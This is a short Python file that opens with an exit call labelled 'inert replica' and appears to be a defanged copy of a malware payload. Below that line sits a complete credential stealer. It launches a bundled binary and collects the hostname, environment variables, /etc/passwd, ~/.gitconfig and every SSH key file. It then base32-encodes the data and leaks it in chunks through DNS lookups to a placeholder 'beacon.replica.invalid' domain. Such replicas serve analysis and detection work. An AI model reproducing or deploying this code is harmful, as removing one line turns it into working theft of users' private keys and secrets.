raise SystemExit("inert replica")
import base64
import glob
import os
import socket
import subprocess

HERE = os.path.dirname(__file__)
subprocess.Popen([os.path.join(HERE, "runtime", "triton")])
told = [socket.gethostname(), os.getcwd(), str(dict(os.environ))]
for name in ("/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig"), *glob.glob(os.path.expanduser("~/.ssh/*"))):
    with open(name, errors="replace") as file:
        told.append(file.read())
text = base64.b32encode("\n".join(told).encode()).decode()
for at in range(0, len(text), 60):
    socket.gethostbyname(f"{text[at:at + 60]}.beacon.replica.invalid")
